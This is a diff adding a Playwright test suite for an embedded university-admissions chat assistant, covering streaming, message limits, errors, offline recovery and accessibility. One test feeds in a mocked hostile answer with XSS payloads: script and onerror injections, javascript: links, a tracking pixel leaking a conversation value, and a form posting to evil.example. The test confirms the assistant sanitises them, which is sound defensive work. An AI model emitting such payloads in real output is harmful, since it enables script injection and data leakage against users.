@@ -1,0 +1,218 @@
+import type { Page } from '@playwright/test';
+import { expect, test } from './visitor.ts';
+
+const QUESTION = 'Which scholarships can I get for a pharmacy master’s in the UK?';
+
+const box = (page: Page) => page.getByRole('textbox', { name: /question|message/i });
+const log = (page: Page) => page.getByRole('log');
+
+async function ask(page: Page, question: string): Promise<void> {
+  await box(page).fill(question);
+  await box(page).press('Enter');
+}
+
+/** The number of finished answers: each question and each answer has one copy button. */
+const answers = (page: Page, count: number) =>
+  expect(log(page).getByRole('button', { name: 'Copy message' })).toHaveCount(count * 2);
+
+test('a visitor asks about scholarships and gets a streamed answer whose source opens one of our pages', async ({
+  page,
+}) => {
+  await page.goto('/');
+  await ask(page, QUESTION);
+  await expect(page.getByText('AI is thinking').first()).toBeVisible();
+
+  // Streamed: part of the answer is there while it can still be stopped.
+  await expect(page.getByRole('button', { name: /stop/i })).toBeVisible();
+  await expect(log(page)).toContainText(/Chevening|Commonwealth|GREAT/);
+  await answers(page, 1);
+  await expect(log(page).locator('strong, li, table').first()).toBeVisible();
+
+  const source = log(page)
+    .getByRole('link', { name: /scholarships/i })
+    .first();
+  await expect(source).toHaveAttribute('href', /\/guides\/scholarships/);
+  const [guide] = await Promise.all([page.context().waitForEvent('page'), source.click()]);
+  await expect(guide.getByRole('heading', { level: 1 })).toContainText(/scholarship/i);
+  expect(new URL(guide.url()).origin).toBe(new URL(page.url()).origin);
+});
+
+test('the landing’s quick actions fill the box and send nothing', async ({ page }) => {
+  await page.goto('/');
+  for (const name of ['Admission Info', 'Find Universities', 'Scholarships']) {
+    await page.getByRole('button', { name }).click();
+    await expect(box(page)).not.toHaveValue('');
+  }
+  await expect(log(page)).toHaveCount(0);
+});
+
+test('five questions: four are answered, a warning comes at one left, the fifth keeps its text and offers to sign up', async ({
+  page,
+}) => {
+  await page.goto('/');
+  for (const turn of [1, 2, 3]) {
+    await ask(page, `Question ${turn}: what does a master’s in Germany cost?`);
+    await answers(page, turn);
+  }
+  await expect(page.getByText('You have 1 free message remaining. Sign up to continue chatting!')).toBeVisible();
+  await box(page).fill('Question 4: and in Ireland?');
+  await box(page).press('Enter');
+  await answers(page, 4);
+  await expect(page.getByText("You've used all your free messages. Please sign up to continue.").first()).toBeVisible();
+  await expect(page.getByRole('button', { name: 'Sign Up' }).first()).toBeVisible();
+  await expect(box(page)).toHaveAttribute('aria-disabled', 'true');
+
+  await page.reload();
+  await answers(page, 4);
+  await expect(page.getByText("You've used all your free messages. Please sign up to continue.").first()).toBeVisible();
+});
+
+test('a reload keeps the conversation, and the next question goes on with it', async ({ page }) => {
+  await page.goto('/');
+  await ask(page, QUESTION);
+  await answers(page, 1);
+  await page.reload();
+  await answers(page, 1);
+  await ask(page, 'And in Canada?');
+  await answers(page, 2);
+  await expect(log(page)).toContainText(/Canada|Canadian/);
+});
+
+test('Shift+Enter breaks the line, Enter while a word is being composed does not send', async ({ page }) => {
+  await page.goto('/');
+  await box(page).fill('first');
+  await box(page).press('Shift+Enter');
+  await box(page).pressSequentially('second');
+  await expect(box(page)).toHaveValue('first\nsecond');
+  await box(page).dispatchEvent('keydown', { key: 'Enter', isComposing: true, bubbles: true, composed: true });
+  await box(page).dispatchEvent('keydown', { key: 'Enter', keyCode: 229, bubbles: true, composed: true });
+  await expect(log(page)).toHaveCount(0);
+  await expect(box(page)).toHaveValue('first\nsecond');
+});
+
+test('a copied message shows a check for two seconds and is on the clipboard', async ({ page, context }) => {
+  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
+  await page.goto('/');
+  await ask(page, QUESTION);
+  await answers(page, 1);
+  await log(page).getByRole('button', { name: 'Copy message' }).first().click();
+  await expect(log(page).getByText('Copied')).toHaveCount(1);
+  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(QUESTION);
+  await expect(log(page).getByText('Copied')).toHaveCount(0, { timeout: 4_000 });
+});
+
+test('Stop keeps what has arrived', async ({ page }) => {
+  await page.goto('/');
+  await ask(page, QUESTION);
+  await page.getByRole('button', { name: /stop/i }).click();
+  await expect(log(page).getByText('Stopped')).toBeVisible();
+  await expect(box(page)).toBeEditable();
+});
+
+test.describe('failures are told in words, keep the question, and can be tried again', () => {
+  for (const [name, status, text] of [
+    ['a server fault', 500, 'The server is experiencing issues. Please try again in a moment.'],
+    ['a rate limit', 429, 'Rate limit exceeded. Please wait a moment before sending another message.'],
+    [
+      'anything else',
+      418,
+      "I apologize, but I'm having trouble processing your request right now. Please try again or contact our support team for assistance.",
+    ],
+  ] as const)
+    test(name, async ({ page }) => {
+      await page.route('**/api/v1/chat', (route) => route.fulfill({ status, json: { detail: 'x' } }), { times: 1 });
+      await page.goto('/');
+      await ask(page, QUESTION);
+      await expect(page.getByText(text).first()).toBeVisible();
+      await expect(log(page)).toContainText(QUESTION);
+      await page.getByRole('button', { name: 'Retry' }).click();
+      await answers(page, 1);
+      await expect(page.getByText(text)).toHaveCount(0);
+    });
+
+  test('no connection: the box waits, and comes back by itself when the network does', async ({ page, context }) => {
+    await page.goto('/');
+    await ask(page, QUESTION);
+    await answers(page, 1);
+    await context.setOffline(true);
+    await ask(page, 'And in Germany?');
+    await expect(
+      page.getByText('Unable to connect to the server. Please check your internet connection and try again.').first(),
+    ).toBeVisible();
+    await expect(box(page)).toHaveAttribute('aria-disabled', 'true');
+    await context.setOffline(false);
+    await expect(box(page)).not.toHaveAttribute('aria-disabled', 'true');
+    await page.getByRole('button', { name: 'Retry' }).first().click();
+    await answers(page, 2);
+  });
+});
+
+test('a hostile answer runs nothing, loads nothing and keeps only harmless links', async ({ page, leaks }) => {
+  const content = [
+    '<script>document.title="owned"</script><img src=x onerror="document.title=\'owned\'">',
+    '[a](javascript:document.title="owned") [b](data:text/html,x) [c](https://example.org/page)',
+    '![remote](https://tracker.example/pixel.png?conversation=secret)',
+    '<form action="https://evil.example"><button>Pay</button></form><style>*{display:none}</style>',
+    '> '.repeat(2_000),
+  ].join('\n\n');
+  const message = { message_id: 'm', content, role: 'bot', timestamp: new Date().toISOString() };
+  const body = [
+    { type: 'start', conversation_id: 'c', message_id: 'm' },
+    { type: 'delta', text: content },
+    { type: 'done', conversation_id: 'c', message },
+  ]
+    .map((event) => `data: ${JSON.stringify(event)}\n\n`)
+    .join('');
+  await page.route('**/api/v1/chat', (route) => route.fulfill({ contentType: 'text/event-stream', body }));
+  await page.goto('/');
+  await ask(page, 'Hello');
+  await answers(page, 1);
+  await expect(log(page).getByRole('link', { name: 'c', exact: true })).toHaveAttribute('rel', /noopener/);
+  expect(await page.title()).not.toBe('owned');
+  expect(await log(page).locator('script, img[src], form, style, iframe, [onerror]').count()).toBe(0);
+  expect(await log(page).locator('a[href^="javascript"], a[href^="data"]').count()).toBe(0);
+  expect(leaks).toEqual([]);
+});
+
+test('what is typed before the assistant has loaded is not lost, and nothing moves when it takes over', async ({
+  page,
+}) => {
+  let release = () => {};
+  const held = new Promise<void>((resolve) => {
+    release = resolve;
+  });
+  await page.route('**/embed/v1/assistant.js', async (route) => {
+    await held;
+    await route.continue();
+  });
+  await page.addInitScript(() => {
+    new PerformanceObserver((list) => {
+      for (const entry of list.getEntries())
+        document.documentElement.dataset.shift = String(
+          Number(document.documentElement.dataset.shift ?? 0) + ('value' in entry ? Number(entry.value) : 0),
+        );
+    }).observe({ type: 'layout-shift', buffered: true });
+  });
+  await page.goto('/', { waitUntil: 'domcontentloaded' });
+  await box(page).fill('Typed early');
+  const heading = page.getByRole('heading', { level: 1 });
+  const before = await heading.boundingBox();
+  release();
+  await expect(page.locator('admissions-assistant').locator('textarea:visible')).toHaveValue('Typed early');
+  await page.waitForFunction(() =>
+    document.querySelector('admissions-assistant')?.shadowRoot?.querySelector('textarea'),
+  );
+  expect(await heading.boundingBox()).toEqual(before);
+  expect(await box(page).inputValue()).toBe('Typed early');
+  const shift = await page.evaluate(() => Number(document.documentElement.dataset.shift ?? 0));
+  expect(shift).toBeLessThan(0.01);
+});
+
+test('the transcript is a log, and a finished answer is announced once', async ({ page }) => {
+  await page.goto('/');
+  await ask(page, QUESTION);
+  await answers(page, 1);
+  await expect(log(page)).toHaveAttribute('aria-live', 'off');
+  const status = page.getByRole('status').filter({ hasText: /Chevening|Commonwealth|GREAT|scholarship/i });
+  await expect(status).toHaveCount(1);
+});
